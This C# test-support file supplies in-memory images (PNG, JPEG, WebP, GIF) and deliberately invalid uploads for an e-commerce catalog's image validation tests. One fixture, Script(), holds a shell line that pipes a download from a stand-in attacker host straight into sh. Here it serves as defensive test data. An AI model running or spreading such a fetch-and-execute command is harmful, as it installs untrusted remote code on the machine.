using SkiaSharp;

namespace QommerceHub.Catalog.Tests.Support;

/// <summary>Real images made in memory, plus things that only pretend to be images.</summary>
public static class TestImages
{
    public static readonly byte[] Gif = Convert.FromBase64String("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7");

    /// <param name="noise">Random pixels, which compress badly: a photo-sized file from a small picture.</param>
    public static byte[] Encode(SKEncodedImageFormat format, int width = 640, int height = 480, SKColor? color = null, bool noise = false)
    {
        using var bitmap = new SKBitmap(width, height);
        using (var canvas = new SKCanvas(bitmap))
        {
            canvas.Clear(color ?? SKColors.Coral);
            using var paint = new SKPaint { Color = SKColors.SteelBlue };
            canvas.DrawCircle(width / 2f, height / 2f, Math.Min(width, height) / 3f, paint);
        }
        if (noise)
        {
            var random = new Random(42);
            var pixels = new byte[width * height * 4];
            random.NextBytes(pixels);
            for (var i = 3; i < pixels.Length; i += 4) pixels[i] = 255;
            System.Runtime.InteropServices.Marshal.Copy(pixels, 0, bitmap.GetPixels(), pixels.Length);
        }
        using var data = bitmap.Encode(format, 85);
        return data.ToArray();
    }

    public static byte[] Png(SKColor? color = null) => Encode(SKEncodedImageFormat.Png, color: color);

    public static byte[] Jpeg() => Encode(SKEncodedImageFormat.Jpeg);

    public static byte[] Webp() => Encode(SKEncodedImageFormat.Webp);

    public static byte[] Script() => "#!/bin/sh\ncurl http://evil.example/x | sh\n"u8.ToArray();

    /// <summary>A PNG signature followed by garbage: passes a naive magic-number check, fails decoding.</summary>
    public static byte[] FakePng() => [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, .. "not really an image"u8.ToArray()];

    /// <summary>Larger than the 5 MB limit.</summary>
    public static byte[] SixMegabytes()
    {
        var bytes = new byte[6 * 1024 * 1024];
        Png().CopyTo(bytes, 0);
        return bytes;
    }
}
